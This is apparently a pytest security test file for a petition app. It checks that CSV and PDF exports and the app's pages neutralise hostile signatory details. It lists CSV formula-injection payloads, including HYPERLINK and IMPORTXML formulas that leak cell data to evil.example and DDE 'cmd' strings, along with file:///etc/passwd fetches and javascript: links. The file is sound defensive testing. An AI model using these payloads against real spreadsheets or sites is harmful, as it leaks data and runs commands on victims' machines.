"""Hostile signatory details in the exports: CSV (formula injection), PDF, and the pages.

- CSV: every payload of the corpus, plus spreadsheet formulas, as a signatory's name,
  sort name, country, representative, title, website (and a decline reason) through
  both CSV downloads: no cell starts with ``= + - @ TAB CR`` and every hostile value
  is otherwise intact (the cell is the value, or ``'`` + the value).
- PDF: a sample of payloads as title, text and signatory details renders as text;
  the PDF holds no JavaScript, launch actions or ``javascript:``/``file:`` links;
  the WeasyPrint fetcher fetched nothing (a real HTTP server on 127.0.0.1 counts
  requests); all payloads as one signatory list render with no live content.
- Pages: the same details through every page that shows signatory-provided fields
  (invitee page, dashboard, public page and embed, moderation queue, export
  settings page, API token page) are dead (``find_live_xss``).
"""

from __future__ import annotations

import csv
import http.server
import io
import itertools
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from flask.testing import FlaskClient
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, PdfObject

from signon.core.names import clean_name
from signon.core.transaction import commit
from signon.exports.models import ExportStatus
from signon.exports.pdf import operations as pdf_operations
from signon.letters.models import Letter
from signon.signatures.approvals.operations import SignatoryDetails, approve
from signon.signatures.invitations import operations as invitation_ops
from signon.signatures.invitations.links import invitation_token
from signon.signatures.models import Moderation, SignatoryKind, SignatureSource
from tests.api.factories import token_for
from tests.conftest import login
from tests.exports.factories import set_export_settings
from tests.factories import add_revision, make_letter, make_user
from tests.security.xss import TEMPLATE_PROBE, find_live_xss, load_payloads

PAYLOADS = load_payloads()
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Spreadsheet formula injections (OWASP CSV injection), including the less obvious starts.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    "-1",
    "+44 20 7946 0000",
    "@mention",
)
_counter = itertools.count(1)


def _hostile_details(value: str, n: int) -> SignatoryDetails:
    """Every free-text signatory field is ``value``; the name stays unique with a suffix."""
    return SignatoryDetails(
        name=f"{value[:280]} #{n}",
        kind=SignatoryKind.NGO,
        sort_name=value[:200],
        country=value[:100],
        representative_name=value[:200],
        representative_title=value[:200],
        # what the forms accept: an http(s) address with a host (the payload in its path)
        website="https://evil.example/" + "".join(value.split())[:400],
        authority_confirmed=True,
    )


def _sign_all(letter: Letter, values: list[str]) -> list[SignatoryDetails]:
    head = letter.head()
    assert head is not None
    details = [_hostile_details(value, n) for n, value in enumerate(values)]
    for item in details:
        approve(
            letter,
            head,
            item,
            email=None,
            source=SignatureSource.IMPORT,
            require_current=False,
        )
    return details


def _expected_cell(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


# --------------------------------------------------------------------------------- CSV


def _csv_rows(client: FlaskClient, path: str) -> list[list[str]]:
    response = client.get(path)
    assert response.status_code == 200, path
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.usefixtures("app_context")
def test_csv_exports_neutralise_formulas_and_keep_every_payload(client: FlaskClient) -> None:
    coordinator = make_user()
    letter = make_letter(coordinator, title="CSV injection")
    values = [*PAYLOADS, *FORMULAS]
    details = _sign_all(letter, values)
    reason = '=HYPERLINK("https://evil.example","x") <script>alert(1)</script>'
    invitation = invitation_ops.invite_organisation(
        letter,
        organisation_name="@Decliner",
        email="d@decliner.example.org",
        invited_by=coordinator,
    )
    invitation_ops.decline_invitation(invitation, reason=reason)
    login(client, coordinator)

    for path in (
        f"/letters/{letter.slug}/signatories.csv",
        f"/letters/{letter.slug}/export/signatories.csv",
    ):
        rows = _csv_rows(client, path)
        cells = [cell for row in rows[1:] for cell in row]
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_START)]
        assert dangerous == [], f"{path}: cells a spreadsheet would run: {dangerous[:5]}"
        present = set(cells)
        for item in details:
            # the name is stored cleaned (core/names.py): whitespace such as a tab collapsed
            name = clean_name(item.name)
            assert _expected_cell(name) in present, f"{path}: {name!r} not intact"
            for value in (item.country, item.representative_name, item.representative_title):
                assert value is not None
                assert _expected_cell(value) in present, f"{path}: {value!r} not intact"
        assert len(rows) - 1 >= len(details)


def test_formula_probe_list_covers_every_dangerous_start() -> None:
    assert {value[0] for value in FORMULAS} >= set(FORMULA_START)


# --------------------------------------------------------------------------------- PDF


class Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:
        Recorder.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    Recorder.requests = []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_port}"
    httpd.shutdown()
    httpd.server_close()


def _walk(obj: PdfObject | Any, seen: set[tuple[int, int]]) -> Iterator[DictionaryObject]:
    """Every dictionary reachable from ``obj``, following indirect references once."""
    stack = [obj]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            key = (item.idnum, item.generation)
            if key in seen:
                continue
            seen.add(key)
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            yield item
            stack.extend(item.values())
        elif isinstance(item, ArrayObject):
            stack.extend(item)


def active_content(data: bytes) -> list[str]:
    """Findings of anything in a PDF that runs or opens something: [] if none."""
    reader = PdfReader(io.BytesIO(data))
    findings: list[str] = []
    for raw in (b"/JavaScript", b"/JS ", b"/JS(", b"/JS<", b"/Launch", b"/EmbeddedFile"):
        if raw in data:
            findings.append(f"raw {raw!r}")
    for dictionary in _walk(reader.trailer, set()):
        for key in ("/JavaScript", "/JS", "/Launch", "/OpenAction", "/AA", "/EmbeddedFiles"):
            if key in dictionary:
                findings.append(f"{key} entry")
        action = dictionary.get("/S")
        if action in ("/JavaScript", "/Launch", "/ImportData", "/SubmitForm", "/GoToR"):
            findings.append(f"action {action}")
        uri = dictionary.get("/URI")
        if uri is not None:
            target = "".join(str(uri).split()).lower()
            if not target.startswith(("http://", "https://", "mailto:")):
                findings.append(f"/URI {str(uri)!r}")
    return findings


def test_the_pdf_checker_finds_javascript_and_bad_links() -> None:
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    assert active_content(out.getvalue()) != []
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("javascript:alert(1)"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    assert any("/URI" in finding for finding in active_content(out.getvalue()))


def _export(letter: Letter) -> bytes:
    set_export_settings(letter, logo_grid=False)
    result = pdf_operations.export_pdf(letter, None, actor_label="security test")
    assert result.record.status == ExportStatus.DONE, result.record.error
    return pdf_operations.stored_pdf(result.record)


def _squash(text: str) -> str:
    return "".join(text.split())


#: At least 40, spread over the corpus' sections, plus the template probe.
PDF_SAMPLE = sorted({*PAYLOADS[:: max(1, len(PAYLOADS) // 45)], TEMPLATE_PROBE}, key=PAYLOADS.index)


def test_the_pdf_sample_is_large_enough() -> None:
    assert len(PDF_SAMPLE) >= 40


@pytest.mark.usefixtures("app_context")
@pytest.mark.parametrize("payload", PDF_SAMPLE)
def test_payload_renders_as_text_in_the_pdf(server: str, payload: str) -> None:
    fetching = (
        f'<img src="file:///etc/passwd"><img src="{server}/img.png">'
        f'<span style="background:url({server}/bg.png)">x</span>'
    )
    letter = make_letter(
        make_user(),
        title=payload[:300],
        body=f"We call on the States.\n\n{payload}\n\n{fetching}\n",
        addressee=payload[:500],
    )
    (details,) = _sign_all(letter, [payload])
    _sign_all(letter, [f"{fetching} url({server}/name.png)"])
    data = _export(letter)
    assert Recorder.requests == [], "the PDF renderer fetched from the network"
    assert active_content(data) == []
    text = _squash(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages))
    assert _squash(details.name) in text, "the signatory name is not printed as text"
    assert "root:" not in text
    if payload == TEMPLATE_PROBE:
        assert TEMPLATE_PROBE in text


@pytest.mark.usefixtures("app_context")
def test_the_whole_corpus_as_one_signatory_list_renders_without_live_content(server: str) -> None:
    letter = make_letter(make_user(), title="All payloads")
    details = _sign_all(letter, [*PAYLOADS, f'<img src="{server}/x.png">'])
    data = _export(letter)
    assert Recorder.requests == []
    assert active_content(data) == []
    text = _squash(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages))
    missing = [item.name for item in details if _squash(item.name) not in text]
    assert missing == [], f"{len(missing)} names not printed as text, e.g. {missing[:3]}"


# --------------------------------------------------------------------------------- pages


@pytest.mark.usefixtures("app_context")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_signatory_fields_are_dead_on_every_page(client: FlaskClient, payload: str) -> None:
    n = next(_counter)
    coordinator = make_user()
    letter = make_letter(coordinator, title=f"Signatory fields {n}", is_public=True)
    # an approval of revision 1, left out once revision 2 (unclassified) is the head
    _sign_all(letter, [f"{payload} (left out)"])
    head = add_revision(letter, coordinator, "A changed text.\n")
    # an invitee who approved with hostile details (the invitee page shows them back)
    invitation = invitation_ops.invite_organisation(
        letter,
        organisation_name=f"Invitee {n}",
        email=f"i{n}@ngo.example.org",
        invited_by=coordinator,
    )
    invitation_ops.approve_invitation(invitation, head, _hostile_details(payload, 1))
    # a decline with a hostile reason
    declined = invitation_ops.invite_organisation(
        letter,
        organisation_name=f"Decliner {n}",
        email=f"d{n}@ngo.example.org",
        invited_by=coordinator,
    )
    invitation_ops.decline_invitation(declined, reason=payload)
    # a public signature waiting for moderation, and a published import
    approve(
        letter,
        head,
        _hostile_details(payload, 2),
        email=f"p{n}@public.example.org",
        source=SignatureSource.PUBLIC,
        moderation=Moderation.PENDING,
    )
    _sign_all(letter, [payload])
    # the API token page names tokens (a coordinator's own text, shown back)
    token_for(letter, coordinator, name=payload[:100])
    commit()
    token = invitation_token(invitation)
    pages = [f"/sign/{token}", f"/p/{letter.slug}", f"/p/{letter.slug}/embed"]
    for path in pages:
        _assert_dead(client.get(path), path, payload)
    login(client, coordinator)
    for path in (
        f"/letters/{letter.slug}/signatories",
        f"/letters/{letter.slug}/moderation",
        f"/letters/{letter.slug}/export",
        f"/letters/{letter.slug}/export/signatories",
        f"/letters/{letter.slug}/api-tokens",
    ):
        _assert_dead(client.get(path), path, payload)


#: The dashboard's own chart (signon/signatures/dashboard/chart.py): the one <svg> a page may hold.
APP_CHART = '<svg xmlns="http://www.w3.org/2000/svg" class="chart" viewBox='


def _assert_dead(response: Any, path: str, payload: str) -> None:
    assert response.status_code == 200, path
    html = response.get_data(as_text=True)
    findings = [f for f in find_live_xss(html) if APP_CHART not in f]
    assert findings == [], f"{path} renders {payload!r} live"
    assert html.count(APP_CHART) <= 1, f"{path}: more than the dashboard's own chart"
    if payload == TEMPLATE_PROBE:
        assert TEMPLATE_PROBE in html, f"{path}: the template probe was evaluated"
